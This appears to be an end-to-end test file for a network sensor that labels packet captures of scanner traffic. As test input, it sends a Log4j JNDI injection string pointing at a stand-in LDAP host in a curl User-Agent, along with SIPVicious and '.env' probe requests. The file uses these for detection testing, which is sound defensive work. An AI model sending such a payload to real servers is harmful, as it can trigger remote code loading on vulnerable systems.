// End to end, as root: `synbait label` on captures written by real tools. (1) tcpdump records curl, nc and a UDP
// probe against real listeners (socat) in a network namespace; the labelled records hold exactly what the clients
// sent. (2) The sensor's own --pcap archive of a run is labelled into the records the sensor itself printed.
// (3) The tcpdump file cut short: the damage is named with its byte offset, the flows before it are labelled.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseRecordLine } from '../../src/record/ndjson.ts';
import type { FlowRecord } from '../../src/record/flow-record.ts';
import { createTopology, installLurkerFirewall, isRoot, nsExec, nsSpawn, type Topology } from '../helpers/netns.ts';
import { BIN, REPO, startSensor } from '../helpers/sensor.ts';

const skip = isRoot() ? false : 'needs root (network namespaces)';
let topo: Topology;
let dir: string;

before(() => {
  if (skip) return;
  topo = createTopology();
  dir = mkdtempSync(join(tmpdir(), 'synbait-label-e2e-'));
});
after(() => {
  topo?.cleanup();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

function label(args: string[]): { code: number | null; stderr: string; records: FlowRecord[] } {
  const r = spawnSync(process.execPath, [BIN, 'label', '--format', 'json', ...args], { cwd: REPO, encoding: 'utf8', timeout: 60_000 });
  const records = r.stdout.split('\n').filter(Boolean).map((l) => (parseRecordLine(l) as { record: FlowRecord }).record);
  return { code: r.status, stderr: r.stderr, records };
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const text = (r: FlowRecord) => Buffer.from(r.payload, 'base64').toString('latin1');

test('a tcpdump capture of real clients against real servers: the clients\' bytes, labelled; then the same file cut short', { skip }, async () => {
  const pcap = join(dir, 'tcpdump.pcap');
  // real services on the "sensor" host: an HTTP-ish TCP listener and a UDP sink
  nsSpawn(topo.sensorNs, 'socat', ['-T', '2', 'TCP6-LISTEN:8080,fork,reuseaddr,ipv6only=0', 'SYSTEM:"printf \'HTTP/1.0 200 OK\\r\\n\\r\\n\'"']);
  nsSpawn(topo.sensorNs, 'socat', ['-u', 'UDP-RECV:5060', 'OPEN:/dev/null']);
  const dump = nsSpawn(topo.sensorNs, 'tcpdump', ['-i', topo.sensorIf, '-U', '-w', pcap, 'tcp or udp']);
  await sleep(1500);
  nsExec(topo.clientNs, 'curl', ['-s', '-m', '5', '-A', '${jndi:ldap://192.0.2.7/x}', `http://${topo.sensorIp4}:8080/probe`], { allowFail: true });
  nsExec(topo.clientNs, 'curl', ['-s', '-m', '5', `http://[${topo.sensorIp6}]:8080/v6`], { allowFail: true });
  nsExec(topo.clientNs, 'sh', ['-c', `printf 'OPTIONS sip:100@${topo.sensorIp4} SIP/2.0\\r\\nUser-Agent: friendly-scanner\\r\\nCSeq: 1 OPTIONS\\r\\n\\r\\n' | nc -u -w1 ${topo.sensorIp4} 5060`], { allowFail: true });
  await sleep(1500);
  dump.kill('SIGINT');
  await new Promise((r) => dump.on('exit', r));

  const r = label([pcap]);
  assert.equal(r.code, 0, r.stderr);
  const probe = r.records.find((x) => text(x).startsWith('GET /probe'));
  assert.ok(probe, `records: ${r.records.map(text).join(' | ')}`);
  assert.equal(probe.state, 'acked');
  assert.equal(probe.src_ip, topo.clientIp4);
  assert.ok(probe.labels.some((l) => 'id' in l && l.id === 'sb-2011'), 'Log4j in the User-Agent');
  assert.ok(probe.syn && probe.syn.options.includes('mss:'), 'the SYN fingerprint comes from the capture');
  const v6 = r.records.find((x) => text(x).startsWith('GET /v6'));
  assert.equal(v6?.ip_version, 6);
  assert.ok(v6?.labels.some((l) => 'id' in l && l.id === 'sb-1101'), 'the curl tag');
  const sip = r.records.find((x) => x.proto === 'udp');
  assert.ok(sip?.labels.some((l) => l.name === 'SIPVicious Scanner Detection'), JSON.stringify(sip));
  // no record holds what a server sent
  assert.ok(!r.records.some((x) => text(x).includes('200 OK')));

  const whole = readFileSync(pcap);
  const cut = join(dir, 'cut.pcap');
  writeFileSync(cut, whole.subarray(0, whole.length - 30));
  const c = label([cut]);
  assert.equal(c.code, 2);
  assert.match(c.stderr, /cut\.pcap: at byte \d+: truncated/);
  assert.ok(c.records.some((x) => text(x).startsWith('GET /probe')), 'the flows before the damage are labelled');
});

test('the sensor\'s own --pcap archive labels into the records the sensor printed', { skip }, async () => {
  const spool = join(dir, 'spool');
  installLurkerFirewall(topo.sensorNs);
  const sensor = await startSensor(topo.sensorNs, ['-i', topo.sensorIf, '--format', 'json', '--archive-dir', spool, '--pcap', '--flow-timeout', '1', '--ssh-port', 'none']);
  try {
    nsExec(topo.clientNs, 'curl', ['-s', '-m', '3', '-A', 'Mozilla/5.0 zgrab/0.x', `http://${topo.sensorIp4}:9200/.env`], { allowFail: true });
    nsExec(topo.clientNs, 'sh', ['-c', `printf 'SSH-2.0-libssh2_1.10.0\\r\\n' | nc -w1 ${topo.sensorIp4} 2222`], { allowFail: true });
    await sensor.waitForRecord((x) => x.dst_port === 9200 && x.payload_len > 0, 'the HTTP record');
    await sensor.waitForRecord((x) => x.dst_port === 2222 && x.payload_len > 0, 'the SSH record');
  } finally {
    await sensor.stop();
  }
  const ready = join(spool, 'ready');
  const pcaps = readdirSync(ready).filter((f) => f.endsWith('.pcap')).map((f) => join(ready, f));
  assert.ok(pcaps.length > 0, `pcap archives in ${ready}`);
  const r = label(pcaps);
  assert.equal(r.code, 0, r.stderr);
  for (const port of [9200, 2222]) {
    const mine = sensor.records.find((x) => x.dst_port === port && x.payload_len > 0)!;
    const labelled = r.records.find((x) => x.dst_port === port && x.src_port === mine.src_port);
    assert.ok(labelled, `port ${port}: ${r.records.map((x) => `${x.dst_port}/${x.state}`).join(' ')}`);
    assert.equal(labelled.payload, mine.payload);
    assert.equal(labelled.state, mine.state);
    assert.deepEqual(labelled.labels, mine.labels);
    assert.deepEqual(labelled.facts, mine.facts);
    assert.deepEqual(labelled.syn, mine.syn);
  }
});
